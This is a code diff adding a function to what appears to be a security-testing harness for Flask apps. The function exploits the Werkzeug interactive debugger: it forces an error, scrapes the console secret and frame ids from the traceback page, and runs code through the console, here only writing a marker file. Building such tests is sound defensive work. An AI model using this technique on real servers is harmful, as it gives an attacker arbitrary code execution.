@@ -142,3 +142,31 @@ def eval_injection(app: flask.Flask, marker: str, https: bool = False) -> Attack
                                   base_url="https://localhost" if https else "http://localhost")
     written = Path(marker).exists()
     return AttackResult(code, written, f"HTTP {reply.status_code}: {reply.get_data(as_text=True)[:120]}")
+
+
+def debugger_console(wsgi_app: Any, marker: str, https: bool = False) -> AttackResult:
+    """Crash a page, read the debugger's secret and a frame id from the traceback page, run code in that frame.
+
+    The code writes ``marker`` (a scratch file path); the attack succeeds when the file exists.
+    """
+    import io
+    import re
+    from pathlib import Path
+
+    from werkzeug.test import Client
+
+    client = Client(wsgi_app)
+    base = "https://localhost" if https else "http://localhost"
+    quiet = {"wsgi.errors": io.StringIO()}  # the debugger also prints the traceback there
+    page = client.get("/calc", query_string={"expr": "1/0"}, environ_overrides=quiet,
+                      base_url=base).get_data(as_text=True)
+    secret = re.search(r'SECRET = "([^"]+)"', page)
+    frames = re.findall(r'<div class="frame" id="frame-(\d+)"', page)
+    if secret is None or not frames:
+        return AttackResult("(no debugger page)", False, f"the error page has no debugger: {page[:100]!r}")
+    code = f"__import__('pathlib').Path({marker!r}).write_text('pwned')"
+    reply = client.get("/calc", query_string={"__debugger__": "yes", "cmd": code, "frm": frames[-1],
+                                              "s": secret.group(1)}, environ_overrides=quiet, base_url=base)
+    return AttackResult(code, Path(marker).exists(),
+                        f"traceback page with {len(frames)} frames and the console secret; "
+                        f"console answered HTTP {reply.status_code}")
